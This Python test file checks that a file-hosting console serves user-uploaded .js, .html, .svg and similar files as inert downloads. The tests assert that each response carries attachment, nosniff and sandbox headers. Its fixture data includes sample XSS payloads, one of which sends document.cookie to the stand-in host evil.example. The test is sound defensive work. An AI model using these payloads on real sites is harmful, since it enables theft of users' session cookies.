"""User files never run in the console's origin (finding 10): downloads are inert bytes.

A `.js` or `.html` file in a folder used to come back as `text/javascript` / `text/html`
from the console's own origin, where a page could load or open it with the user's cookies.
"""

from __future__ import annotations

from collections.abc import Callable

import httpx
import pytest
from fastapi.testclient import TestClient

from shipyard.config import Settings
from shipyard.storage import hosts
from tests.api.test_sessions_api import bearer
from tests.factories import Factory

HOSTILE = {
    "steal.js": b"fetch('/api/v1/me').then(r => r.text()).then(alert)",
    "page.html": b"<script>document.location='https://evil.example/?'+document.cookie</script>",
    "image.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "module.mjs": b"export default 1",
}
INERT = {"notes.txt": "text/plain", "photo.png": "image/png", "table.csv": "text/csv"}
Fetch = Callable[..., httpx.Response]


@pytest.fixture
def download(client: TestClient, factory: Factory, settings: Settings) -> Fetch:
    """Writes a file into a fresh folder of its owner's, then downloads it as the owner."""
    owner = factory.user()
    folder = factory.folder(owner.user)
    headers = bearer(client, owner)
    directory = hosts.directory(settings, folder)

    def fetch(name: str, content: bytes = b"data", *, method: str = "GET") -> httpx.Response:
        (directory / name).write_bytes(content)
        return client.request(
            method,
            f"/api/v1/folders/{folder.id}/download",
            params={"path": name},
            headers=headers,
        )

    return fetch


def assert_never_runs(answer: httpx.Response) -> None:
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    policies = answer.headers.get_list("Content-Security-Policy")
    assert "sandbox" in policies


@pytest.mark.parametrize("name", HOSTILE)
def test_scripts_and_pages_come_back_as_plain_bytes(download: Fetch, name: str) -> None:
    for method in ("GET", "HEAD"):
        answer = download(name, HOSTILE[name], method=method)
        assert answer.status_code == 200
        assert answer.headers["Content-Type"] == "application/octet-stream"
        assert_never_runs(answer)


@pytest.mark.parametrize("name", INERT)
def test_inert_types_keep_their_type_and_the_same_guards(download: Fetch, name: str) -> None:
    answer = download(name)
    assert answer.headers["Content-Type"].split(";")[0] == INERT[name]
    assert_never_runs(answer)
